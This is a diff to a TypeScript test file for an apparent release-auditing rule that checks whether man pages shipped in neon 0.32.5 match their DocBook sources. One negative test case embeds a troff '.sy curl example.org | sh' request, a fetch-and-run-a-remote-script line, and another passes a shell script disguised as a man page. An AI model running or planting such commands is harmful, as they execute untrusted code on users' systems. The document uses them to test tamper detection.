@@ -136,6 +136,38 @@ test('a page help2man wrote without an include file is explained by the rule of 
   assert.is(help2manRule('$(srcdir)/foo.1: foo.c\n\thelp2man ./foo > $@\n', 'foo.1'), 1);
 });
 
+// The DocBook XSL stylesheets' page of a refentry, as neon 0.32.5 ships doc/man/ne_addr_resolve.3 from doc/ref/resolve.xml.
+const refentry = (title: string, names: string[], volume = '3') =>
+  `<refentry id="refresolve">\n  <refmeta>\n    <refentrytitle>${title}</refentrytitle>\n    <manvolnum>${volume}</manvolnum>\n  </refmeta>\n  <refnamediv>\n${names.map((n) => `    <refname id="${n}">${n}</refname>\n`).join('')}    <refpurpose>functions to resolve hostnames to addresses</refpurpose>\n  </refnamediv>\n  <refsect1><title>Description</title>\n    <para>The <function>ne_addr_resolve</function> function resolves the given <parameter>hostname</parameter>, returning an &lt;ne_sock_addr&gt; object representing the address (or addresses) associated with the hostname.</para>\n  </refsect1>\n</refentry>\n`;
+const docbookPage = (title: string, extra = '') =>
+  `'\\" t\n.\\"     Title: ${title}\n.\\"    Author: \n.\\" Generator: DocBook XSL Stylesheets vsnapshot <http://docbook.sf.net/>\n.\\"      Date: 21 January 2023\n.TH "${title.toUpperCase()}" "3" "21 January 2023" "neon 0.32.5" "neon API reference"\n.SH "NAME"\nne_addr_resolve, ne_addr_result, ne_addr_destroy \\- functions to resolve hostnames to addresses\n.SH "DESCRIPTION"\nThe \\fBne_addr_resolve\\fR function resolves the given \\fIhostname\\fR, returning an ne_sock_addr object representing the address (or addresses) associated with the hostname\\&.\n${extra}`;
+
+test('a page the DocBook XSL stylesheets wrote from a refentry of another name is explained by its title, section and words; its aliases too (neon 0.32.5)', async () => {
+  const tag = { 'doc/ref/resolve.xml': refentry('ne_addr_resolve', ['ne_addr_resolve', 'ne_addr_result', 'ne_addr_destroy']), 'doc/ref/other.xml': refentry('ne_other', ['ne_other'], '8'), 'doc/ref/clicert.xml': refentry('ne_ssl_client_cert', ['ne_ssl_clicert_read']) };
+  const ctx = context(tag);
+  ctx.releaseOnly = new Map([['doc/man/ne_addr_resolve.3', added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve')).release!]]);
+  const page = await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve')), ctx);
+  assert.is(page?.category, 'generated-manpage');
+  assert.is(page?.severity, 'low');
+  assert.is(page!.reasons[1], 'ne_addr_resolve(3) is a refentry of doc/ref/resolve.xml, in the tag: the page carries 16 of the 16 words of that file');
+  // The file is named for the first name, the title is the refentry's title.
+  assert.is((await generatedManpage.judge(added('doc/man/ne_ssl_clicert_read.3', docbookPage('ne_ssl_client_cert')), ctx))?.category, 'generated-manpage');
+  const alias = await generatedManpage.judge(added('doc/man/ne_addr_destroy.3', '.so man3/ne_addr_resolve.3\n'), ctx);
+  assert.is(alias?.category, 'generated-manpage');
+  assert.match(alias!.reasons[1]!, 'both are names of one refentry of doc/ref/resolve.xml');
+  // Another section, a title no refentry has, a request that runs a command, other words: not explained.
+  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.8', docbookPage('ne_addr_resolve')), ctx), undefined);
+  assert.is((await generatedManpage.judge(added('doc/man/ne_other.8', docbookPage('ne_other')), ctx))?.category, 'generated-manpage');
+  assert.is(await generatedManpage.judge(added('doc/man/ne_other.3', docbookPage('ne_other')), ctx), undefined);
+  assert.is(await generatedManpage.judge(added('doc/man/ne_nothing.3', docbookPage('ne_nothing')), ctx), undefined);
+  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', docbookPage('ne_addr_resolve', '.sy curl example.org | sh\n')), ctx), undefined);
+  const other = docbookPage('ne_addr_resolve').replace(/\.SH "DESCRIPTION"[\s\S]*/, '.SH "DESCRIPTION"\nSomething else entirely.\n');
+  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_resolve.3', other), ctx), undefined);
+  // An alias whose page the release does not have beside it, or of a name of another refentry: not explained.
+  assert.is(await generatedManpage.judge(added('doc/man/ne_addr_destroy.3', '.so man3/ne_addr_result.3\n'), ctx), undefined);
+  assert.is(await generatedManpage.judge(added('doc/man/ne_other.8', '.so man3/ne_addr_resolve.3\n'), ctx), undefined);
+});
+
 test('look-alikes are not explained', async () => {
   const ctx = context({ 'disk-utils/addpart.8.adoc': '' });
   assert.is(await generatedManpage.judge(added('disk-utils/addpart.8', '#!/bin/sh\nid\n'), ctx), undefined);
